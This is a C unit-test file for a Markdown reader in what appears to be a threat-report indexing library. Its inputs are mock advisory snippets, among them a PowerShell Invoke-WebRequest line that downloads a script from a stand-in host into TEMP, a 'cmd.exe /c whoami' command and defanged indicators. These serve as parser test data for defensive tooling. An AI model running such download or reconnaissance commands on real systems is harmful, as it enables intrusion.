/*
 * Unit tests of the Markdown reader (src/lib/document/markdown.c): front
 * matter, ATX and setext headings and the title, fenced and indented code,
 * nested lists, quotes, pipe tables, links, images, autolinks, emphasis
 * (and where it must not be stripped), entities, escapes, HTML tags and
 * comments, hard breaks; then the corpus of markdown-ish articles in
 * ../shared (skipped when absent): every article parses, its title is
 * found, and no markup is left in the prose.
 */
#include "doc_check.h"

#include <dirent.h>
#include <jansson.h>
#include <stdlib.h>

#define PARSE(lit) parse_as(lit, sizeof(lit) - 1, CTIX_FORMAT_MARKDOWN)

/* The text of link i. */
static int link_is(const ctix_document *d, size_t i, const char *text, const char *href)
{
  const ctix_link *l = &d->links[i];
  return strlen(text) == l->span.end - l->span.start &&
         memcmp(d->text + l->span.start, text, strlen(text)) == 0 && strcmp(l->href, href) == 0;
}

static void test_front_matter(void **state)
{
  ctix_document *d = PARSE("---\n"
                           "title: \"Night Owl: A Loader Campaign\"\n"
                           "date: 2024-05-02\n"
                           "authors:\n"
                           "  - Dana Reyes\n"
                           "  - Sam Okafor\n"
                           "description: How it spread\n"
                           "---\n"
                           "\n"
                           "# Another Heading\n\nBody.\n");
  (void)state;
  assert_string_equal(d->meta.title, "Night Owl: A Loader Campaign");
  assert_string_equal(d->meta.published, "2024-05-02");
  assert_string_equal(d->meta.author, "Dana Reyes, Sam Okafor");
  assert_string_equal(d->meta.description, "How it spread");
  assert_false(text_has(d, "title:"));
  assert_block(d, 0, CTIX_BLOCK_HEADING, 1);
  ctix_document_free(d);
}

static void test_headings_and_title(void **state)
{
  ctix_document *d = PARSE("Intro line.\n\n# First *Title*\n\n## Second ##\n\n### Third\n\n"
                           "Setext One\n==========\n\nSetext Two\n----------\n\n"
                           "####### not a heading\n\n#hashtag is not one either\n\n# Later H1\n");
  (void)state;
  assert_string_equal(d->meta.title, "First Title");
  assert_block(d, find_block(d, "First Title"), CTIX_BLOCK_HEADING, 1);
  assert_block(d, find_block(d, "Second"), CTIX_BLOCK_HEADING, 2);
  assert_block(d, find_block(d, "Third"), CTIX_BLOCK_HEADING, 3);
  assert_block(d, find_block(d, "Setext One"), CTIX_BLOCK_HEADING, 1);
  assert_block(d, find_block(d, "Setext Two"), CTIX_BLOCK_HEADING, 2);
  assert_block(d, find_block(d, "####### not a heading"), CTIX_BLOCK_PARAGRAPH, 0);
  assert_block(d, find_block(d, "#hashtag is not one either"), CTIX_BLOCK_PARAGRAPH, 0);
  ctix_document_free(d);
}

static void test_code_blocks(void **state)
{
  ctix_document *d = PARSE("Text before.\n\n"
                           "```powershell\n"
                           "Invoke-WebRequest -Uri https://x.example/a.ps1 -OutFile $env:TEMP\\a.ps1\n"
                           "\n"
                           "# **stars** and snake_case [x](y)\n"
                           "```\n\n"
                           "~~~~\nlong fence\n~~~\nstill code\n~~~~\n\n"
                           "~~~\n~~~ with text is content\n~~~\n\n"
                           "    indented one\n"
                           "      indented two\n\n"
                           "Paragraph\n    continued lazily, not code.\n");
  size_t i;
  (void)state;
  i = find_block_with(d, "Invoke-WebRequest");
  assert_block(d, i, CTIX_BLOCK_CODE, 0);
  assert_true(block_is(d, i,
                       "Invoke-WebRequest -Uri https://x.example/a.ps1 -OutFile $env:TEMP\\a.ps1\n"
                       "\n"
                       "# **stars** and snake_case [x](y)"));
  assert_block(d, find_block(d, "long fence\n~~~\nstill code"), CTIX_BLOCK_CODE, 0);
  assert_block(d, find_block(d, "~~~ with text is content"), CTIX_BLOCK_CODE, 0);
  assert_block(d, find_block(d, "indented one\n  indented two"), CTIX_BLOCK_CODE, 0);
  assert_block(d, find_block(d, "Paragraph continued lazily, not code."), CTIX_BLOCK_PARAGRAPH,
               0);
  /* One sentence per code line. */
  assert_int_equal(d->blocks[i].nsentences, 2);
  ctix_document_free(d);
}

static void test_lists(void **state)
{
  ctix_document *d = PARSE("*   Parent bullet\n"
                           "\n"
                           "    *   Child bullet\n"
                           "        *   Grandchild\n"
                           "*   Second parent\n"
                           "\n"
                           "1.   **Block** the addresses.\n"
                           "\n"
                           "    1.   Check proxy logs.\n"
                           "\n"
                           "2.   Reset passwords\n"
                           "     across the estate.\n"
                           "\n"
                           "Not in the list.\n"
                           "- [ ] task item\n");
  (void)state;
  assert_block(d, find_block(d, "Parent bullet"), CTIX_BLOCK_LIST_ITEM, 1);
  assert_block(d, find_block(d, "Child bullet"), CTIX_BLOCK_LIST_ITEM, 2);
  assert_block(d, find_block(d, "Grandchild"), CTIX_BLOCK_LIST_ITEM, 3);
  assert_block(d, find_block(d, "Second parent"), CTIX_BLOCK_LIST_ITEM, 1);
  assert_block(d, find_block(d, "Block the addresses."), CTIX_BLOCK_LIST_ITEM, 1);
  assert_block(d, find_block(d, "Check proxy logs."), CTIX_BLOCK_LIST_ITEM, 2);
  assert_block(d, find_block(d, "Reset passwords across the estate."), CTIX_BLOCK_LIST_ITEM, 1);
  assert_block(d, find_block(d, "Not in the list."), CTIX_BLOCK_PARAGRAPH, 0);
  assert_block(d, find_block(d, "[ ] task item"), CTIX_BLOCK_LIST_ITEM, 1);
  ctix_document_free(d);
}

static void test_quote_rule_comment(void **state)
{
  ctix_document *d = PARSE("> Quoted analyst note: the loader checks\n"
                           "> for sandbox artifacts.\n"
                           ">\n"
                           "> Second quoted paragraph.\n"
                           "\n"
                           "***\n"
                           "- - -\n"
                           "<!-- a comment\n"
                           "over lines -->\n"
                           "Visible <!-- inline comment --> text.\n");
  (void)state;
  assert_block(d, find_block(d, "Quoted analyst note: the loader checks for sandbox artifacts."),
               CTIX_BLOCK_QUOTE, 0);
  assert_block(d, find_block(d, "Second quoted paragraph."), CTIX_BLOCK_QUOTE, 0);
  assert_false(text_has(d, "***"));
  assert_false(text_has(d, "comment"));
  find_block(d, "Visible text.");
  assert_int_equal(d->nblocks, 3);
  ctix_document_free(d);
}

static void test_tables(void **state)
{
  ctix_document *d = PARSE("Table 2. Indicators\n"
                           "| Indicator | Type | Notes |\n"
                           "| --- | :---: | --- |\n"
                           "| 203.0.113.9 | ipv4 | C2 server |\n"
                           "| `evil|pipe[.]example` | domain | [report](https://r.example) |\n"
                           "| night-owl[.]example | domain | |\n"
                           "|  | empty first | |\n"
                           "\n"
                           "a | b\n"
                           "--|--\n"
                           "c | d\n");
  size_t i;
  (void)state;
  assert_block(d, find_block(d, "Table 2. Indicators"), CTIX_BLOCK_PARAGRAPH, 0);
  i = find_block(d, "Indicator | Type | Notes");
  assert_block(d, i, CTIX_BLOCK_TABLE_ROW, 0);
  assert_true(block_is(d, i + 1, "203.0.113.9 | ipv4 | C2 server"));
  assert_true(block_is(d, i + 2, "evil|pipe[.]example | domain | report"));
  assert_true(block_is(d, i + 3, "night-owl[.]example | domain"));
  assert_true(block_is(d, i + 4, "| empty first"));
  assert_block(d, find_block(d, "a | b"), CTIX_BLOCK_TABLE_ROW, 0);
  assert_block(d, find_block(d, "c | d"), CTIX_BLOCK_TABLE_ROW, 0);
  assert_false(text_has(d, "---"));
  /* A row is one sentence. */
  assert_int_equal(d->blocks[i + 1].nsentences, 1);
  assert_int_equal(d->nlinks, 1);
  assert_true(link_is(d, 0, "report", "https://r.example"));
  ctix_document_free(d);
}

static void test_links_and_images(void **state)
{
  ctix_document *d = PARSE(
      "Read the [vendor **write-up**](https://vendor.example/a_b \"Title\") and\n"
      "![Portal screenshot](img/portal.png) then visit <https://portal.example/x> or\n"
      "<soc@example.org>. Nested [[T1190](https://attack.example/T1190)] cite.\n"
      "Conti[1](#note1) ransomware. See [the reference][ref1] too. Empty [](https://e.example).\n"
      "\n"
      "[ref1]: https://example.org/ref\n");
  (void)state;
  assert_true(block_is(d, 0,
                       "Read the vendor write-up and Portal screenshot then visit "
                       "https://portal.example/x or soc@example.org. Nested [T1190] cite. "
                       "Conti ransomware. See the reference too. Empty ."));
  assert_int_equal(d->nlinks, 5);
  assert_true(link_is(d, 0, "vendor write-up", "https://vendor.example/a_b"));
  assert_true(link_is(d, 1, "https://portal.example/x", "https://portal.example/x"));
  assert_true(link_is(d, 2, "soc@example.org", "soc@example.org"));
  assert_true(link_is(d, 3, "T1190", "https://attack.example/T1190"));
  assert_true(link_is(d, 4, "", "https://e.example"));
  assert_int_equal(d->nblocks, 1);
  ctix_document_free(d);
}

/* A link or code span written glued to a word (a space lost when a page
 * was converted) stays a word of its own in the text when its text is
 * shaped like an observable; one glued to punctuation, a plain word in
 * code ("and`KEY`too"), and a footnote number, are left as they were. */
static void test_glued_links_and_code(void **state)
{
  ctix_document *d = PARSE(
      "Send reports to[abuse.example.net/form](https://abuse.example.net/form) daily.\n\n"
      "Mail[helpdesk@example.org](mailto:helpdesk@example.org)or call us.\n\n"
      "It writes`/var/lib/acme/STATE`unless told otherwise, then (`x.log`), and`KEY`too.\n\n"
      "Kept: [site](https://s.example/)'s page, a[b]c, Conti[2](#n2) and [last](u).\n");
  (void)state;
  assert_int_equal(d->nblocks, 4);
  assert_true(block_is(d, 0, "Send reports to abuse.example.net/form daily."));
  assert_true(block_is(d, 1, "Mail helpdesk@example.org or call us."));
  assert_true(block_is(d, 2, "It writes /var/lib/acme/STATE unless told otherwise, then (x.log), "
                             "andKEYtoo."));
  assert_true(block_is(d, 3, "Kept: site's page, a[b]c, Conti and last."));
  assert_true(link_is(d, 0, "abuse.example.net/form", "https://abuse.example.net/form"));
  assert_true(link_is(d, 1, "helpdesk@example.org", "mailto:helpdesk@example.org"));
  ctix_document_free(d);
}

/*
 * "[text][label]" is a reference link only when the label is defined
 * (CommonMark; case and spaces of the label ignored, "[text][]" uses the
 * text): two bracketed ids side by side stay as written.
 */
static void test_reference_labels(void **state)
{
  ctix_document *d = PARSE("The actors read internal mail [TA0009][T1114] and kept the "
                           "accounts [T1078.001][T1078.002]. See [the Report][Ref  One], "
                           "[Other][] and [x][undefined].\n"
                           "\n"
                           "  [ref one]: https://example.org/r\n"
                           "[other]: https://example.org/o\n");
  (void)state;
  assert_true(block_is(d, 0,
                       "The actors read internal mail [TA0009][T1114] and kept the accounts "
                       "[T1078.001][T1078.002]. See the Report, Other and [x][undefined]."));
  assert_int_equal(d->nblocks, 1);
  ctix_document_free(d);
}

/*
 * A line "[label]: words with spaces" has no link destination, so it is
 * no definition (CommonMark): it stays as text and defines nothing; two
 * ATT&CK ids side by side stay as written even when the second is defined.
 */
static void test_reference_definition_destination(void **state)
{
  ctix_document *d = PARSE("The crew copied the mailboxes of the board [TA0009][T1114] and "
                           "read them [T1114.002][T1114.001].\n"
                           "\n"
                           "[T1114]: Email Collection\n"
                           "\n"
                           "[T1114.001]: https://example.org/t1114-001 \"Local\"\n");
  (void)state;
  assert_true(block_is(d, 0,
                       "The crew copied the mailboxes of the board [TA0009][T1114] and read "
                       "them [T1114.002][T1114.001]."));
  assert_int_equal(d->nblocks, 2);
  assert_true(block_is(d, 1, "[T1114]: Email Collection"));
  ctix_document_free(d);
}

/*
 * The limits of the reference labels: a 999-byte label is defined and
 * used, a 1,000-byte one is not (both brackets stay); the first 4,096
 * definitions count, the 4,097th does not.
 */
static void test_reference_label_limits(void **state)
{
  size_t cap = 4200 * 16 + 4 * 1100, n = 0, i;
  char *t = malloc(cap);
  ctix_document *d;
  const char *p;
  (void)state;
  assert_non_null(t);
  /* "[x][A...A]" (999) "[y][B...B]" (1000), then their definitions */
  memcpy(t + n, "[x][", 4), n += 4;
  memset(t + n, 'a', 999), n += 999;
  memcpy(t + n, "] [y][", 6), n += 6;
  memset(t + n, 'b', 1000), n += 1000;
  memcpy(t + n, "]\n\n[", 4), n += 4;
  memset(t + n, 'a', 999), n += 999;
  memcpy(t + n, "]: u\n[", 6), n += 6;
  memset(t + n, 'b', 1000), n += 1000;
  memcpy(t + n, "]: u\n", 5), n += 5;
  d = parse_as(t, n, CTIX_FORMAT_MARKDOWN);
  assert_non_null(d);
  assert_true(d->blocks[0].span.end - d->blocks[0].span.start > 1000);
  p = d->text + d->blocks[0].span.start;
  assert_memory_equal(p, "x [y][bbb", 9);
  ctix_document_free(d);
  /* 4,097 definitions l0 .. l4096 */
  n = 0;
  memcpy(t + n, "[a][l0] [b][l4096]\n\n", 20), n += 20;
  for (i = 0; i <= 4096; i++) {
    char num[8];
    size_t k = sizeof(num), v = i;
    do
      num[--k] = (char)('0' + v % 10);
    while ((v /= 10) != 0);
    memcpy(t + n, "[l", 2), n += 2;
    memcpy(t + n, num + k, sizeof(num) - k), n += sizeof(num) - k;
    memcpy(t + n, "]: u\n", 5), n += 5;
  }
  d = parse_as(t, n, CTIX_FORMAT_MARKDOWN);
  assert_non_null(d);
  assert_true(block_is(d, 0, "a [b][l4096]"));
  ctix_document_free(d);
  free(t);
}

static void test_emphasis(void **state)
{
  ctix_document *d = PARSE("**bold** *it* __strong__ _em_ ~~gone~~ ***both*** "
                           "**Note:**This glued.\n");
  (void)state;
  assert_true(block_is(d, 0, "bold it strong em gone both Note:This glued."));
  ctix_document_free(d);
}

static void test_emphasis_kept_literal(void **state)
{
  ctix_document *d = PARSE("snake_case_name and file_names.exe, any *.dll or *.exe file, "
                           "__init__.py, 2*3*4 units, a * b, evil_corp_ and ~/.ssh~ here.\n");
  (void)state;
  assert_true(block_is(d, 0, "snake_case_name and file_names.exe, any *.dll or *.exe file, "
                             "__init__.py, 2*3*4 units, a * b, evil_corp_ and ~/.ssh~ here."));
  ctix_document_free(d);
}

static void test_code_spans_escapes_entities(void **state)
{
  ctix_document *d = PARSE("Run `cmd.exe /c whoami` and `` a`b `` then \\*not em\\* and "
                           "C:\\\\Users\\\\Public, \\<user\\>, AT&amp;T &lt;x&gt; &#x41;&#66; "
                           "&bogus; &#0; unmatched ` tick.\n");
  (void)state;
  assert_true(block_is(d, 0, "Run cmd.exe /c whoami and a`b then *not em* and "
                             "C:\\\\Users\\\\Public, <user>, AT&T <x> AB &bogus; \xEF\xBF\xBD "
                             "unmatched ` tick."));
  ctix_document_free(d);
}

static void test_html_tags(void **state)
{
  ctix_document *d = PARSE("<div class=\"note\">Inline <b>bold</b> and<br>break.</div>\n\n"
                           "Keep <username> and a < b > c.\n");
  (void)state;
  assert_true(block_is(d, 0, "Inline bold and break."));
  assert_true(block_is(d, 1, "Keep <username> and a < b > c."));
  ctix_document_free(d);
}

static void test_hard_breaks_and_records(void **state)
{
  ctix_document *d = PARSE("**Activity timeline**  \n_Source: Vendor_\n\n"
                           "Line one\\\nline two\n\n"
                           "203.0.113.9\nevil[.]example\n");
  (void)state;
  assert_true(block_is(d, 0, "Activity timeline"));
  assert_true(block_is(d, 1, "Source: Vendor"));
  assert_true(block_is(d, 2, "Line one"));
  assert_true(block_is(d, 3, "line two"));
  assert_true(block_is(d, 4, "203.0.113.9"));
  assert_true(block_is(d, 5, "evil[.]example"));
  ctix_document_free(d);
}

static void test_data_file(void **state)
{
  ctix_document *d = load_data("markdown/advisory.md", CTIX_FORMAT_AUTO);
  size_t i;
  (void)state;
  assert_int_equal(d->format, CTIX_FORMAT_MARKDOWN);
  assert_string_equal(d->meta.title, "Night Owl: A Loader Campaign Against Clinics");
  assert_string_equal(d->meta.author, "Dana Reyes, Sam Okafor");
  assert_false(text_has(d, "editor note"));
  i = find_block(d, "Indicator | Type | Notes");
  assert_true(block_is(d, i + 1, "203.0.113.9 | ipv4 | C2 | staging"));
  assert_block(d, find_block_with(d, "Invoke-WebRequest"), CTIX_BLOCK_CODE, 0);
  assert_block(d, find_block(d, "Look for beacons."), CTIX_BLOCK_LIST_ITEM, 3);
  assert_block(d, find_block(d, "Closing hashes"), CTIX_BLOCK_HEADING, 3);
  assert_true(text_has(d, "snake_case_name.ps1, file_names.exe and any *.dll in %TEMP%"));
  ctix_document_free(d);
}

/* Is s[0..n) free of Markdown markup that should have been reduced? */
static void assert_no_markup(const ctix_document *d, const char *name)
{
  size_t i;
  for (i = 0; i < d->nblocks; i++) {
    const ctix_block *b = &d->blocks[i];
    size_t k;
    if (b->kind == CTIX_BLOCK_CODE)
      continue;
    for (k = b->span.start; k + 2 <= b->span.end; k++) {
      const char *p = d->text + k;
      if ((p[0] == ']' && p[1] == '(') || (p[0] == '!' && p[1] == '[') ||
          (p[0] == '*' && p[1] == '*'))
        fail_msg("%s: markup left in block %zu: %.*s", name, i,
                 (int)(b->span.end - b->span.start), d->text + b->span.start);
    }
  }
}

static void test_shared_corpus(void **state)
{
  char dir[1024], path[1400];
  DIR *dp;
  struct dirent *e;
  size_t files = 0;
  (void)state;
  snprintf(dir, sizeof(dir), "%s/data/articles/dev", CTIX_SHARED_DIR);
  dp = opendir(dir);
  if (!dp)
    skip();
  while ((e = readdir(dp)) != NULL) {
    size_t n = strlen(e->d_name);
    ctix_document *d = NULL;
    ctix_error err;
    json_t *truth;
    char jpath[1400];
    int rc;
    if (n < 9 || strcmp(e->d_name + n - 9, ".full.txt") != 0)
      continue;
    snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
    ctix_error_clear(&err);
    rc = ctix_document_load(&d, path, NULL, &err);
    if (rc)
      fail_msg("%s: %s", e->d_name, err.message);
    doc_check(d);
    assert_int_equal(d->format, CTIX_FORMAT_MARKDOWN);
    assert_no_markup(d, e->d_name);
    snprintf(jpath, sizeof(jpath), "%s/%.*s.json", dir, (int)(n - 9), e->d_name);
    truth = json_load_file(jpath, 0, NULL);
    if (truth) {
      const char *title = json_string_value(json_object_get(truth, "title"));
      if (title && (!d->meta.title || !strstr(d->meta.title, title)))
        fail_msg("%s: title \"%s\", expected \"%s\"", e->d_name,
                 d->meta.title ? d->meta.title : "(none)", title);
      json_decref(truth);
    }
    ctix_document_free(d);
    files++;
  }
  closedir(dp);
  assert_true(files > 0);
}

/* A code span that styles a piece of a word, a URL or a path stays in it:
 * only observable-shaped spans outside a path or URL start a word. */
static void test_code_span_inside_word(void **state)
{
  ctix_document *d = PARSE(
      "Fetched from hxxp://bad-mirror[.]org/`x`7.bin last week.\n\n"
      "Stored as /var/tmp/`systemd`x on each node.\n\n"
      "It posed as `lsa`ss.exe there.\n\n"
      "Then /srv/`cfg.d`old and saved`out.txt`now.\n");
  (void)state;
  assert_int_equal(d->nblocks, 4);
  assert_true(block_is(d, 0, "Fetched from hxxp://bad-mirror[.]org/x7.bin last week."));
  assert_true(block_is(d, 1, "Stored as /var/tmp/systemdx on each node."));
  assert_true(block_is(d, 2, "It posed as lsass.exe there."));
  assert_true(block_is(d, 3, "Then /srv/cfg.dold and saved out.txt now."));
  ctix_document_free(d);
}

int main(void)
{
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_front_matter),
      cmocka_unit_test(test_headings_and_title),
      cmocka_unit_test(test_code_blocks),
      cmocka_unit_test(test_lists),
      cmocka_unit_test(test_quote_rule_comment),
      cmocka_unit_test(test_tables),
      cmocka_unit_test(test_links_and_images),
      cmocka_unit_test(test_glued_links_and_code),
      cmocka_unit_test(test_code_span_inside_word),
      cmocka_unit_test(test_reference_labels),
      cmocka_unit_test(test_reference_definition_destination),
      cmocka_unit_test(test_reference_label_limits),
      cmocka_unit_test(test_emphasis),
      cmocka_unit_test(test_emphasis_kept_literal),
      cmocka_unit_test(test_code_spans_escapes_entities),
      cmocka_unit_test(test_html_tags),
      cmocka_unit_test(test_hard_breaks_and_records),
      cmocka_unit_test(test_data_file),
      cmocka_unit_test(test_shared_corpus),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
